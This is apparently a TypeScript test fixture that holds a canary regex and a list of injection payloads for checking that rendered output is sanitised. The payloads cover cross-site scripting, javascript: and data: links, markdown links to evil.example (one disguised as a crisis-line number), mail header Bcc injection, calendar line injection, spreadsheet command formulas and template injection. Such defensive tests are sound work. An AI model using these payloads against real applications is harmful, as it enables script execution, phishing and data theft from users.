/** Where every link of a payload leads, and what every script of one calls: found anywhere, it ran or was repeated. */
export const CANARY = /evil\.example\/|alert\(/i;

/** Words that something might take for more than words: a browser, a mail program, a calendar, a spreadsheet, a card. */
export const PAYLOADS: readonly string[] = [
  // scripts
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '</title></textarea></script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<<script>script>alert(1)<</script>/script>',
  '<!--<script>alert(1)//-->',
  '<style>@import "https://evil.example/x.css"</style>',
  '<template><script>alert(1)</script></template>',
  // events
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  `' onmouseover='alert(1)' x='`,
  '" autofocus onfocus="alert(1)" x="',
  '<video><source onerror=alert(1)></video>',
  // what is loaded or led to
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<img src="https://evil.example/x.png">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  // links of markdown
  '[x](javascript:alert(1))',
  '[x](JaVa\u0000ScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:alert(1))',
  '[Call 988](https://evil.example/pay)',
  '[x](http://localhost@evil.example/)',
  '[x](http://127.0.0.1:80@evil.example/)',
  '![x](https://evil.example/x.png)',
  '[x]: https://evil.example/ "x"',
  '<https://evil.example/>',
  '[x](tel:1"onclick="alert(1))',
  // entities, and signs that turn or hide
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '\u202e<img src=x onerror=alert(1)>\u202c',
  '\u2028<script>alert(1)</script>\u2029',
  '\ufeff＜script＞alert(1)＜/script＞',
  // headers of a mail and lines of a calendar
  'x\r\nBcc: thief@evil.example\r\n\r\n<script>alert(1)</script>',
  'x\nContent-Type: text/html\n\n<script>alert(1)</script>',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nURL:https://evil.example/\r\nATTACH:https://evil.example/',
  'x;ALTREP="https://evil.example/":y\r\n ATTENDEE:mailto:thief@evil.example',
  // formulas and templates
  '=HYPERLINK("https://evil.example/","x")',
  '@SUM(1+1)*cmd|"/c https://evil.example/"!A0',
  '${alert(1)}{{constructor.constructor("alert(1)")()}}',
  // cards
  '{"type":"Action.OpenUrl","url":"https://evil.example/"}',
  '**[x](https://evil.example/)** {{DATE(https://evil.example/,SHORT)}} <at>everyone</at>',
];
